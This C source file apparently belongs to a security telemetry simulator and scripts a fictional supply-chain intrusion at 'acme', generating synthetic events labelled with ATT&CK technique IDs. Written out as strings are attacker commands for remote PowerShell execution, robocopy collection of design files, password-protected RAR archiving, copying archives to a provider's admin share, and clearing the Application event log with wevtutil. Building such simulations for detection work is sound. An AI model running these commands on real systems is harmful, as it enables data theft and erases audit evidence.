/* SPDX-License-Identifier: Apache-2.0
 *
 * The first story at acme, Tuesday night: in through the provider's account for remote desktops, on to a workstation
 * with the designs, packed, and back to the provider over its administrative share.
 *
 * In: the scene with a desktop at the jump host. Out: marked events in its world.
 */
#include "simulate/story_first.h"

#define STAGE "C:\\$Recycle.Bin\\q1"

/* From the jump host to the file server. Returns the shell there, and the client through which it is seen. */
static struct sp_process arrive(struct sp_scene *scene, struct sp_logon *logon, struct sp_process *client)
{
    struct sp_world *world = scene->world;
    struct sp_host *files = scene->files;

    sp_scene_step(scene, "customer chosen", "T1021.001");
    *client = sp_scene_run(scene, &scene->jump_shell, S32 "mstsc.exe", "\"" S32 "mstsc.exe\" /v:srv-files-01.acme.example");
    sp_act_connect(world, scene->now, client, &(struct sp_peer){ files->ip, files->fqdn, 3389, "ms-wbt-server" });
    sp_act_explicit(world, scene->now, client, &sp_cast.north, files->fqdn);
    sp_scene_hop(scene, "in through the provider", "T1199", "northmsp", "acme", "vpn");
    *logon = (struct sp_logon){ &sp_cast.north, 10, "Negotiate", files->name, JUMP_EGRESS, "High" };
    return sp_act_desktop(world, &scene->now, files, logon);
}

/* To the workstation where the designs are, by remote PowerShell. */
static void reach_workstation(struct sp_scene *scene, const struct sp_process *ps)
{
    struct sp_world *world = scene->world;
    struct sp_host *ws = scene->ws;
    struct sp_logon logon = { &sp_cast.north, 3, "Kerberos", NULL, scene->files->ip, "High" };

    sp_scene_step(scene, "commands to a workstation", "T1021.006");
    sp_act_script(world, scene->now, ps,
                  "Invoke-Command -ComputerName WS-07 -ScriptBlock { robocopy C:\\Work\\design \\\\SRV-FILES-01\\public\\t /e /r:0 }", NULL);
    scene->now = sp_world_soon(world, scene->now, 800);
    const struct sp_session *session = sp_act_logon(world, &scene->now, ws, &logon);
    struct sp_process dcom = sp_act_resident(world, ws, &ws->system, S32 "svchost.exe", S32 "svchost.exe -k DcomLaunch -p");
    struct sp_process host = sp_act_start(world, &scene->now, &dcom, session, S32 "wsmprovhost.exe", S32 "wsmprovhost.exe -Embedding");
    struct sp_process shell = sp_scene_run(scene, &host, CMD, "\"" CMD "\" /c robocopy C:\\Work\\design \\\\SRV-FILES-01\\public\\t /e /r:0");
    sp_scene_step(scene, "designs collected", "T1039");
    sp_scene_once(scene, &shell, S32 "robocopy.exe", "robocopy C:\\Work\\design \\\\SRV-FILES-01\\public\\t /e /r:0");
    sp_act_end(world, scene->now, &shell);
    sp_act_end(world, scene->now + SP_TICKS_SECOND, &host);
    sp_act_logoff(world, scene->now + 2 * SP_TICKS_SECOND, ws, session, 3);
}

static void pack(struct sp_scene *scene, const struct sp_process *shell)
{
    struct sp_world *world = scene->world;

    sp_scene_step(scene, "archives put aside", "T1560.001");
    struct sp_process rar = sp_scene_run(scene, shell, RAR, "rar.exe a -r -hpQ7w1 -v100m " STAGE ".rar D:\\Shares\\design D:\\Shares\\public\\t");
    sp_act_file(world, scene->now, &rar, STAGE ".part1.rar");
    scene->now += 4 * SP_TICKS_MINUTE;
    sp_act_file(world, scene->now, &rar, STAGE ".part2.rar");
    sp_act_end(world, scene->now + 5 * SP_TICKS_SECOND, &rar);
}

/* Back-haul: seen at acme as a copy, at the provider as a share that is written to. */
static void carry_back(struct sp_scene *scene, const struct sp_process *shell)
{
    struct sp_world *world = scene->world;
    struct sp_host *jump = scene->jump;

    sp_scene_step(scene, "copied to the provider", "T1074.002");
    struct sp_process copy = sp_scene_run(scene, shell, S32 "robocopy.exe",
                                          "robocopy.exe C:\\$Recycle.Bin \\\\" JUMP_EGRESS "\\C$\\ProgramData\\media q1.part*.rar");
    struct sp_process system = sp_act_resident(world, scene->files, &scene->files->system, "System", "System");
    sp_act_connect(world, scene->now, &system, &(struct sp_peer){ JUMP_EGRESS, NULL, 445, "microsoft-ds" });
    const struct sp_mark *here = world->mark;
    sp_scene_hop(scene, "archives arrive at the provider", "T1074.002", "acme", "northmsp", "vpn");
    struct sp_logon logon = { &sp_cast.lind, 3, "NTLM", scene->files->name, ACME_EGRESS, "High" };
    const struct sp_session *session = sp_act_logon(world, &scene->now, jump, &logon);
    sp_act_share(world, scene->now, jump, session, "C$", ACME_EGRESS);
    system = sp_act_resident(world, jump, &jump->system, "System", "System");
    for (unsigned i = 1; i <= 2; i++) {
        scene->now += 40 * SP_TICKS_SECOND;
        sp_act_share_file(world, scene->now, jump, session,
                          &(struct sp_shared_file){ "C$", sp_world_text(world, "ProgramData\\media\\q1.part%u.rar", i), ACME_EGRESS, true });
        sp_act_file(world, scene->now + SP_TICKS_SECOND / 50, &system,
                    sp_world_text(world, "C:\\ProgramData\\media\\q1.part%u.rar", i));
    }
    sp_act_logoff(world, scene->now + 15 * SP_TICKS_SECOND, jump, session, 3);
    scene->now += 12 * SP_TICKS_SECOND;
    world->mark = here;
    sp_act_end(world, scene->now, &copy);
}

void sp_first_acme(struct sp_scene *scene)
{
    struct sp_world *world = scene->world;
    struct sp_process client;
    struct sp_logon logon;

    sp_scene_at(scene, 1, 22, 40);
    struct sp_process desktop = arrive(scene, &logon, &client);
    struct sp_process shell = sp_scene_run(scene, &desktop, CMD, "\"" CMD "\"");
    struct sp_process ps = sp_scene_run(scene, &shell, PS, "powershell");
    reach_workstation(scene, &ps);
    pack(scene, &shell);
    carry_back(scene, &shell);
    sp_scene_step(scene, "another log emptied", "T1070.001");
    sp_scene_once(scene, &shell, S32 "wevtutil.exe", "wevtutil.exe cl Application");
    sp_act_clear(world, scene->now, scene->files, desktop.session, "Application");
    sp_scene_step(scene, "left", "T1199");
    sp_act_end(world, scene->now, &ps);
    sp_act_end(world, scene->now + SP_TICKS_SECOND / 4, &shell);
    sp_act_desktop_left(world, scene->now + SP_TICKS_SECOND, &desktop, &logon);
    sp_act_end(world, scene->now + 5 * SP_TICKS_SECOND, &client);
}
